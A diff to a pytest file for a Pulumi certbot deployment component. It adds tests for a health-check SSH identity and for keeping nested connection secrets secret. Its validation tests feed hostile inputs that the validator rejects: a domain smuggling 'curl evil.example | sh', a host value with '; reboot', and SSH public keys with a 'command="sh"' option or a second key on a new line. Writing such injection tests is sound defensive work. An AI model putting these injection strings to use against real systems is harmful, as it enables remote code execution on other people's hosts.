@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pulumi
 import pytest
 from pulumi.runtime import rpc
@@ -16,6 +18,7 @@ CERT_STDOUT = ("certificate: done\ncert_name=dreamfactory\nexpires_at=2031-05-06
                "https_verified=true")
 RENEWAL_STDOUT = "renewal_timer=snap.certbot.renew.timer\nrenewal: done (changed=0)"
 HEALTH_TYPE = "pulumi-python:dynamic/certbot:HostHealthCheck"
+HEALTH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHealthKeyForTests ops@laptop"
 # What the health provider reports: the host read now (a later expiry than the certificate step saw).
 HEALTH_OUTPUTS = {"expires_at": "2031-08-01T00:00:00Z", "https_verified": True, "renewal_timer_active": False,
                   "problems": ["renewal timer snap.certbot.renew.timer is inactive (up re-runs the renewal step)"]}
@@ -27,6 +30,18 @@ def command_outputs(typ, name, inputs):
     if typ != "command:remote:Command":
         return {}
     return {"stdout": CERT_STDOUT if name.endswith("-certificate") else RENEWAL_STDOUT, "stderr": ""}
+
+
+def secret_value(registered: object) -> object:
+    """The value of a property registered as a secret (fails when it was not sent as one)."""
+    assert isinstance(registered, dict) and registered.get(rpc._special_sig_key) == rpc._special_secret_sig, registered
+    return registered["value"]
+
+
+def script_of(remote_command: str) -> str:
+    """The bash script a step's remote command runs (the argument of ``bash -c``)."""
+    words = shlex.split(remote_command)
+    return words[words.index("-c") + 1]
 
 
 @pytest.fixture
@@ -159,8 +174,61 @@ def test_bad_input_registers_nothing(run):
         host(domains=["df.example.com && curl evil.example | sh"])
     with pytest.raises(CertbotConfigError, match="'connection.host'"):
         host(connection=remote.ConnectionArgs(host="h; reboot", user="root"))
-    with pytest.raises(CertbotConfigError, match="'connection.proxy': not supported yet by the health check"):
-        host(connection=remote.ConnectionArgs(host="h", user="root", proxy=remote.ProxyConnectionArgs(host="bastion")))
+    with pytest.raises(CertbotConfigError, match="'health_public_key'"):
+        host(health_public_key='command="sh" ssh-ed25519 AAAAC3Nza')  # options are the component's to set
+    with pytest.raises(CertbotConfigError, match="'health_public_key'"):
+        host(health_public_key="ssh-ed25519 AAAAC3Nza\nssh-ed25519 AAAAother")
+    with pytest.raises(CertbotConfigError, match="'health_connection.user'"):
+        host(health_public_key=HEALTH_KEY, health_connection=remote.ConnectionArgs(host="h", user="root"))
     with pytest.raises(CertbotConfigError, match="'connection.user'"):
         host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
     assert run.mocks.registrations == []
+
+
+@pulumi.runtime.test
+def test_a_health_key_adds_the_identity_step_whose_delete_removes_it_and_reads_use_the_health_connection(run):
+    agent = "/run/user/1000/ssh-agent.sock"
+    bastion = remote.ProxyConnectionArgs(host="bastion.example.com", user="jump", agent_socket_path=agent,
+                                         host_key="ssh-ed25519 AAAAbastion")
+    deploy = remote.ConnectionArgs(host="10.0.0.5", user="deploy", agent_socket_path=agent, proxy=bastion,
+                                   host_key="ssh-ed25519 AAAAtarget")
+    health = remote.ConnectionArgs(host="10.0.0.5", user="dreamfactory-health", agent_socket_path=agent,
+                                   proxy=bastion, host_key="ssh-ed25519 AAAAtarget")
+    component = host(connection=deploy, health_public_key=HEALTH_KEY, health_connection=health)
+
+    def check(_):
+        commands = [r.name for r in run.mocks.registrations if r.typ == "command:remote:Command"]
+        assert commands[-1] == "df-1-health-identity" and commands[:-1] == [
+            "df-1-firewall", "df-1-snapd", "df-1-certbot", "df-1-certificate", "df-1-renewal"]
+        identity = run.mocks.named("df-1-health-identity").inputs
+        create, delete = (script_of(identity[which]) for which in ("create", "delete"))
+        assert "HEALTH_PUBLIC_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHealthKeyForTests'" in create  # no comment
+        assert "HEALTH_USER=dreamfactory-health" in create
+        assert "# dreamfactory-infra CertbotHost step: health\n" in create  # the probe it installs
+        assert "HEALTH_PUBLIC_KEY=''" in delete and "PROBE_SCRIPT=''" in delete
+        checked = run.mocks.named("df-1-health").inputs
+        assert checked["agent_socket_path"] == agent and checked.get("private_key") is None
+        proxy, health_connection = secret_value(checked["proxy"]), secret_value(checked["health_connection"])
+        assert proxy["host"] == "bastion.example.com" and proxy["host_key"] == "ssh-ed25519 AAAAbastion"
+        assert health_connection["user"] == "dreamfactory-health"
+        assert health_connection["proxy"]["user"] == "jump"  # inside the secret whole
+        assert "health-identity" not in checked["repairs"]
+        view = run.mocks.named("df-1").inputs
+        assert view["health_identity"] is True and view["private_key_in_config"] is False
+
+    return pulumi.Output.all(component.renewal_timer, component.expires_at).apply(check)
+
+
+@pulumi.runtime.test
+def test_nested_connection_secrets_stay_secret(run):
+    bastion = remote.ProxyConnectionArgs(host="bastion.example.com", user="jump", private_key="BASTION-KEY")
+    component = host(connection=remote.ConnectionArgs(host="10.0.0.5", user="root", private_key="PRIVATE-KEY-XYZ",
+                                                      proxy=bastion))
+
+    def check(_):
+        registered = run.mocks.named("df-1-health")
+        assert secret_value(registered.inputs["proxy"])["private_key"] == "BASTION-KEY"  # the bastion hop is secret whole
+        assert run.mocks.named("df-1").inputs["private_key_in_config"] is True
+        assert "df-1-health-identity" not in [r.name for r in run.mocks.registrations]
+
+    return pulumi.Output.all(component.renewal_timer, component.expires_at).apply(check)
